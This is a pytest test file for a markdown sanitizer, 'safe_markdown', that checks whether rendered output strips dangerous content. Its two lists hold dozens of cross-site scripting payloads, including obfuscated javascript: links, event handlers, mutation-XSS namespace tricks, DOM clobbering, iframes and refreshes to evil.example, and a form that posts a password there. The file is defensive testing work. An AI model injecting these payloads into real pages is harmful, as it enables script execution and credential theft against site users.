"""Markdown: what is always removed. Read next: safe_markdown/tests/test_any_text.py."""

import pytest

from safe_markdown import render
from safe_markdown.tests.page_reader import assert_stays_inside, dangers_in

HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<b onclick=alert(1) OnMouseOver=alert(2)>Ada</b>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>Ada</a>",
    "<a href='JaVaScRiPt:alert(1)'>Ada</a>",
    "<a href='&#106;avascript&colon;alert(1)'>Ada</a>",
    "<a href='java\tscript:alert(1)'>Ada</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>Ada</a>",
    "<a href='&#1; javascript:alert(1)'>Ada</a>",
    "<a href='vbscript:msgbox(1)'>Ada</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>Ada</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=' http://example.com/a.png'>",
    "<img src='ht\ttp://example.com/a.png'>",
    "<a href='/' target=_blank ping=//evil.example>Ada</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>Ada</p>",
    "<form action='//evil.example'><input name=password><button formaction=//evil.example>Sign in</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>Ada</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><a xlink:href='javascript:alert(1)'>Ada</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<h2 id=cookie>Ada</h2>",
    "<img id=forms name=body src=x>",
    "<video src=https://evil.example/a.mp4 autoplay></video>",
    "<body onload=alert(1)>",
]
TEXT_ATTACKS = [
    "<scr<script>ipt>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[Ada](javascript:alert(1))",
    "[Ada](JAVASCRIPT&colon;alert(1))",
    "[Ada](java&#10;script:alert(1))",
    "[Ada](<java\tscript:alert(1)>)",
    "[Ada](&#x1;javascript:alert(1))",
    "<javascript:alert(1)>",
    "[Ada][a]\n\n[a]: vbscript:msgbox(1)",
    "![Ada](data:image/svg+xml;base64,PHN2Zz4=)",
    '![Ada](https://example.com/"onerror="alert(1))',
    '[Ada](/ "x\\"onmouseover=\\"alert(1)")',
    '```x"onload=alert(1)\n<script>alert(1)</script>\n```',
    '# Ada" onclick="alert(1)',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script> |",
    "`<script>`<script>alert(1)</script>",
    "> <div>\n> <script>alert(1)",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_an_attack_in_html_is_disarmed(attack: str) -> None:
    assert dangers_in(attack), "the test does not see what is dangerous here"
    assert dangers_in(render(attack)) == []


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_an_attack_inside_a_line_is_disarmed(attack: str) -> None:
    assert dangers_in(render(f"Ada *says {attack} to* Grace")) == []


@pytest.mark.parametrize("attack", TEXT_ATTACKS)
def test_an_attack_that_is_no_html_yet_is_disarmed(attack: str) -> None:
    assert dangers_in(render(attack)) == []


@pytest.mark.parametrize(
    "body", ["<div><b>Ada", "</article></main></body>Ada", "<table><td>Ada", "<!-- Ada", "<a href='"]
)
def test_html_left_open_does_not_reach_the_page_around_it(body: str) -> None:
    assert_stays_inside(render(body))
